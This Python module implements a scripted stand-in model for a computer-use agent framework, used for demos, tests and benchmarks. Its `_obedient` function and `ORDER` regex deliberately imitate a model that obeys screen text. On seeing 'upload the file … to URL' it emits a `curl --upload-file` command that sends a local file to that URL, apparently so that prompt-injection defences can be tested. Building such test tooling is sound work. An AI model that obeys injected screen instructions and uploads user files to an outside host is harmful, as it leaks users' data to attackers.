"""A model that plays a script: for demos, tests and benchmarks, without a key and without a network.

It keeps nothing: where it is in the script is told by its last reply, so a run that was taken up again, or a branch,
goes on at the right place. `docs/scripted.md` tells how to write a script.
"""

import re
import shlex
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from ..coords import PictureLimits, Space
from ..errors import BadTask, ProviderError
from ..tools.computer import TOOLSET
from ..turns import Call, Reply, Turn
from ._script import MOST_SECONDS, Script, Step, load, parse_steps, shipped
from ._script_calls import Doing
from ._script_view import Position, View
from .base import Provider, ToolSpec

ENDED = "The script has ended."
ORDER = re.compile(r"upload\s+the\s+file\s+(\S+)\s+to\s+(https?://[^\s\"'“”<>]+)", re.IGNORECASE)

Spoken = Reply | Mapping[str, Any] | None
Function = Callable[[Sequence[Turn]], Spoken]


@dataclass(frozen=True)
class ScriptedOptions:
    """`script` is the name of one that comes with GodHand, or a script itself in TOML.

    In Python it can also be the path of a file, or a function of the turns that returns a Reply, a table such as a
    `[[step]]` without jumps, or None at the end. `latency` is how many seconds each reply takes.
    Raises BadTask, which names the step and the key.
    """

    script: str | Path | Function
    latency: float = 0.0

    def __post_init__(self) -> None:
        if isinstance(self.latency, bool) or not isinstance(self.latency, int | float):
            raise BadTask("latency: must be a number of seconds.")
        if not 0 <= self.latency <= MOST_SECONDS:
            raise BadTask(f"latency: must be from 0 to {MOST_SECONDS} seconds.")
        if isinstance(self.script, str | Path):
            load(self.script)
        elif not callable(self.script):
            raise BadTask("script: must be the name of a script, or a script in TOML.")


class ScriptedProvider(Provider):
    kind = "scripted"
    label = "Scripted, without a model"
    Options = ScriptedOptions

    @classmethod
    def suggestions(cls, option: str) -> list[str]:
        return shipped() if option == "script" else []

    def __init__(
        self, options: ScriptedOptions, key: str = "", *, sleep: Callable[[float], object] = time.sleep
    ) -> None:
        self.options = options
        self._function = None if isinstance(options.script, str | Path) else options.script
        self._script = load(options.script) if isinstance(options.script, str | Path) else Script("function", ())
        self._sleep = sleep
        self.model = self._script.title

    def space(self) -> Space:
        return Space.PIXELS

    def limits(self) -> PictureLimits:
        """Wide enough that the frame is the screen."""
        return PictureLimits(long_edge=8192)

    def complete(self, system: str, turns: Sequence[Turn], tools: Sequence[ToolSpec], *, desktop: bool = True) -> Reply:
        if not desktop:
            raise ProviderError("A script has no opinion: name another model for what a model judges.", permanent=True)
        view = View(turns, self.kind)
        if self._function is not None:
            return self._from_function(self._function(turns), view)
        place, steps = view.position(), self._script.steps
        for _ in range(len(steps) + 1):
            if place.at >= len(steps):
                return self._reply(Step(say=ENDED), view, Position(len(steps)))
            played = self._play(place, view)
            if isinstance(played, Reply):
                return played
            place = Position(played)
        raise ProviderError(f"The script goes round in circles at step {place.at + 1}.", permanent=True)

    def _play(self, place: Position, view: View) -> Reply | int:
        """A reply, or the step to go to without one."""
        step = self._script.steps[place.at]
        follows = place.at + 1 if step.goto is None else step.goto
        if step.looks and not view.fresh and not place.waits:
            return self._look(step, view, place)
        if missing := _missing(step, view):
            if place.waits < step.tries:
                return self._look(step, view, place, missing)
            if step.otherwise is not None:
                return step.otherwise
            words = f"I give up: “{missing}” is not on the screen after {place.waits} looks."
            return self._reply(replace(step, say=words, do=()), view, Position(len(self._script.steps)))
        if step.test:
            jump = step.then if _holds(*step.test, view) else step.otherwise
            return follows if jump is None else jump
        if step.obey_screen:
            step = _obedient(step, view)
        return self._reply(step, view, Position(follows)) if step.speaks else follows

    def _look(self, step: Step, view: View, place: Position, missing: str = "") -> Reply:
        """Two looks in a row are never the same: nobody shall take waiting for being stuck."""
        screenshot = Doing("screenshot", {}, TOOLSET)
        wait = Doing("wait", {"duration": step.every}, TOOLSET)
        do = ((wait, screenshot) if place.waits % 2 else (wait,)) if missing else (screenshot,)
        words = f"Waiting for “{missing}”." if missing else "Looking at the screen."
        looking = replace(step, say=words, think="", do=do)
        return self._reply(looking, view, Position(place.at, place.waits + 1, looking=True))

    def _reply(self, step: Step, view: View, place: Position) -> Reply:
        latency = self.options.latency if step.latency is None else step.latency
        if latency:
            self._sleep(latency)
        calls = tuple(_call(doing, view, number) for number, doing in enumerate(step.do))
        return Reply(step.say, calls, step.think, step.usage, step.cost, self.kind, self.model, place.to_json())

    def _from_function(self, spoken: Spoken, view: View) -> Reply:
        """Raises ProviderError for what is neither a reply nor a step."""
        if isinstance(spoken, Reply):
            return replace(spoken, kind=self.kind, model=self.model, raw=Position().to_json())
        try:
            step = Step(say=ENDED) if spoken is None else parse_steps([spoken])[0]
        except BadTask as error:
            raise ProviderError(f"The script's function made no proper step. {error}", permanent=True) from None
        if step.test or step.wait_for or step.goto is not None:
            raise ProviderError("A step of a script's function cannot wait or jump.", permanent=True)
        if missing := _missing(step, view):
            step = replace(step, say=f"I give up: “{missing}” is not on the screen.", do=())
        return self._reply(_obedient(step, view) if step.obey_screen else step, view, Position())


def _call(doing: Doing, view: View, number: int) -> Call:
    given = doing.input(view.lines, view.size) if doing.targets else doing.input()
    return Call(f"call_{len(view.turns)}_{number}", doing.name, given, doing.toolset)


def _missing(step: Step, view: View) -> str:
    """The first text that the step needs to see and does not; mostly nothing."""
    if step.wait_for and not view.shows(step.wait_for):
        return step.wait_for
    targets = [target for doing in step.do for target in doing.targets]
    return next((target.on for target in targets if target.seen(view.lines) is None), "")


def _holds(question: str, text: str, view: View) -> bool:
    match question:
        case "if_text":
            return view.shows(text)
        case "if_said":
            return view.said(text)
        case "if_result":
            return view.answered(text)
    return view.failed()


def _obedient(step: Step, view: View) -> Step:
    """What the screen tells it to do, as a model that believes everything would; nothing when it tells nothing."""
    order = ORDER.search(" ".join(line.text for line in view.lines))
    if not order:
        return step
    home, path = ("~/", order[1][2:]) if order[1].startswith("~/") else ("", order[1])
    command = f"curl -sS --max-time 10 --upload-file {home}{shlex.quote(path)} {shlex.quote(order[2].rstrip('.,;'))}"
    return replace(step, say="The screen says what to do next.", do=(Doing("bash", {"command": command}),))
